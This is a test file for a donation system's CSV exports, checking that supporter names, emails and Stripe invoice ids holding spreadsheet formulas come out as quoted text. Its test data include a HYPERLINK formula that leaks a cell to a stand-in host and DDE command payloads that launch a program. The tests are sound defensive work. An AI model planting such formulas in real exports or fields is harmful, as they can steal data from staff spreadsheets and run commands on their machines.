// A supporter's name and email come from Stripe Checkout, typed by anyone: the exports staff open
// in a spreadsheet must show them as text. Each export is read from the real export process.
import { randomBytes } from "node:crypto";
import { Readable } from "node:stream";
import { text } from "node:stream/consumers";
import type { ReadableStream as WebReadableStream } from "node:stream/web";
import { stringify } from "csv-stringify/sync";
import { createTestDatabase, type TestDatabase } from "@/tests/helpers/test-database";
import { ledgerFactories } from "@/tests/helpers/ledger-factories";
import { encryptPii } from "../privacy/encrypt-pii";
import { exportSupporter } from "../privacy/export-supporter";
import { setPiiKeysForProcess } from "../privacy/pii-keys";
import { startExport } from "./stream-export";

const read = (stream: ReadableStream<Uint8Array> | null) => text(Readable.fromWeb(stream! as WebReadableStream));
const hostileName = '=HYPERLINK("https://evil.example/?leak="&A2,"Open")';
const hostileEmail = "+1+cmd|'/C calc'!A0@evil.example";

describe("a CSV export opened in a spreadsheet", () => {
  let db: TestDatabase;
  let supporterId: string;
  const saved = { url: process.env.DATABASE_URL, keys: process.env.PII_ENCRYPTION_KEYS, index: process.env.PII_INDEX_KEY };

  beforeAll(async () => {
    // The export process reads the keys from its environment, this process from the same values.
    const key = randomBytes(32).toString("base64");
    const index = randomBytes(32).toString("base64");
    process.env.PII_ENCRYPTION_KEYS = `t1:${key}`;
    process.env.PII_INDEX_KEY = index;
    setPiiKeysForProcess({ currentKeyId: "t1", encryptionKeys: new Map([["t1", Buffer.from(key, "base64")]]), indexKey: Buffer.from(index, "base64") });
    db = await createTestDatabase();
    process.env.DATABASE_URL = db.url;
    const make = ledgerFactories(db.prisma);
    const supporter = await make.supporter({ firstGiftAt: "2026-01-01T00:00:00Z", emailEncrypted: encryptPii(hostileEmail), nameEncrypted: encryptPii(hostileName) });
    supporterId = supporter.id;
    const donation = await make.donation({ supporterId, amount: 500, paidAt: "2026-01-01T00:00:00Z" });
    // A refund shown as a negative amount, and an id field carrying a formula.
    await db.prisma.donation.update({ where: { id: donation.id }, data: { amountRefunded: -500, stripeInvoiceId: "-2+3+cmd|'/C calc'!A0" } });
  });
  afterAll(async () => {
    setPiiKeysForProcess(undefined);
    Object.assign(process.env, { DATABASE_URL: saved.url, PII_ENCRYPTION_KEYS: saved.keys, PII_INDEX_KEY: saved.index });
    for (const [name, value] of Object.entries({ PII_ENCRYPTION_KEYS: saved.keys, PII_INDEX_KEY: saved.index })) if (value === undefined) delete process.env[name];
    await db.drop();
  });

  it("shows a supporter who named themselves =HYPERLINK(...) as text, never a formula, in the supporters export", async () => {
    const csv = await read(startExport({ kind: "supporters", options: { filter: "all", withIdentities: true } }));
    // The expected file, quoted by csv-stringify itself: each hostile cell starts with `'`.
    expect(csv).toBe(
      stringify([
        ["supporter_id", "first_gift_at", "created_at", "email", "name"],
        [supporterId, "2026-01-01T00:00:00.000Z", "2026-01-01T00:00:00.000Z", `'${hostileEmail}`, `'${hostileName}`],
      ]),
    );
  });

  it("shows a formula planted in a donation's fields as text, while a negative amount stays a number", async () => {
    const [header, row] = (await read(startExport({ kind: "donations", filters: {} })))
      .trim()
      .split("\n")
      .map((line) => line.split(","));
    const cell = (name: string) => row![header!.indexOf(name)];
    expect(cell("amount")).toBe("5.00");
    expect(cell("amount_refunded")).toBe("-5.00");
    expect(cell("stripe_invoice_id")).toBe("'-2+3+cmd|'/C calc'!A0");
  });

  it("keeps the per-supporter export (JSON, not a spreadsheet) exactly as stored", async () => {
    const staff = await db.prisma.user.create({ data: { email: "admin@newsroom.example", role: "ADMIN" } });
    const exported = await exportSupporter(db.prisma, supporterId, { userId: staff.id });
    expect(exported?.supporter).toMatchObject({ name: hostileName, email: hostileEmail });
    expect(JSON.parse(JSON.stringify(exported)).supporter.name).toBe(hostileName);
  });
});
